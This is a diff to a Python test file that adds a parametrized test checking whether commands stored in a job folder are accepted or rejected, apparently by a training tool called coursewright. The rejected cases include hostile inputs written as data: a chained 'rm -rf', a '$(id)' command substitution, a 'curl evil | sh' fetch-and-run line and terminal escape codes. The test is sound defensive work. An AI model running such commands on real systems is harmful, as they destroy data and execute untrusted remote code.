@@ -55,6 +55,24 @@ def test_a_broken_state_is_none(tmp_path, content):
         assert read(tmp_path).state == "running"
 
 
+@pytest.mark.parametrize(
+    ("written", "told"),
+    [
+        ("coursewright train -m 'a=b c' seed=0", "coursewright train -m 'a=b c' seed=0"),
+        ("coursewright train; rm -rf x", ""),
+        ("coursewright train seed=$(id)", ""),
+        ("curl evil | sh", ""),
+        ("coursewright 'train", None),
+        ("\x1b[31mcoursewright", ""),
+    ],
+)
+def test_a_command_that_a_folder_holds_is_ours_or_none(tmp_path, written, told):
+    State("done", "now\x1b[2J", "host", 3, "group", written, "").write(tmp_path)
+    state = read(tmp_path)
+    assert (state and state.command) == told
+    assert state is None or "\x1b" not in state.since
+
+
 def test_jobs_wait_in_a_queue_and_finished_ones_do_not(tmp_path):
     jobs = [tmp_path / name for name in ("new", "done", "failed")]
     State.now("done", "").write(jobs[1])
